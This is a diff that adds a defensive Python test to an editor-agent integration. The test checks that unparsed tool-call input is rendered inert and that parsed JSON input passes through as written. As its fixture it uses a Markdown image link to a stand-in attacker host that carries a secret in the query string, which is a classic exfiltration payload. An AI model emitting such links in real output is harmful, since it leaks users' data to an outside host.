@@ -195,3 +195,23 @@ async def test_prose_is_not_held_back(tmp_path: Path) -> None:
     chunks = [u.content.text for u in client.of("agent_message_chunk")]
     assert "".join(chunks) == prose
     assert len(chunks) >= len(prose) // 4 - 6
+
+
+async def test_a_tool_calls_raw_input_is_made_inert_when_text_and_sent_as_is_when_json(
+        tmp_path: Path) -> None:
+    """Zed renders a tool call's `raw_input` when the user expands the call: a JSON string as
+    Markdown, anything else as pretty JSON in a ```json fence (agent_ui's thread view,
+    `markdown_for_raw_output`; docs/editors.md). Arguments that do not parse reach the editor
+    as text, so they are made inert; parsed arguments go as the model wrote them."""
+    image = "![x](https://attacker.example/c?d=SECRET)"
+    script = [Reply(tool_calls=[call("read_file", f"{image} is not JSON")]),
+              Reply(tool_calls=[call("read_file", {"path": image})]), Reply("done")]
+    client = EditorClient()
+    with FakeModelServer(script) as server:
+        async with acp_agent(client, server, tmp_path) as conn:
+            session = (await conn.new_session(cwd=str(tmp_path), mcp_servers=[])).session_id
+            await conn.prompt(session_id=session, prompt=[text_block("read it")])
+    unparsed, parsed = [u.raw_input for u in client.of("tool_call")]
+    assert isinstance(unparsed, str) and remote_images(unparsed) == []
+    assert unparsed == "(image from attacker.example not loaded: x) is not JSON"
+    assert isinstance(parsed, dict) and parsed["path"] == image  # fenced by Zed: not rendered
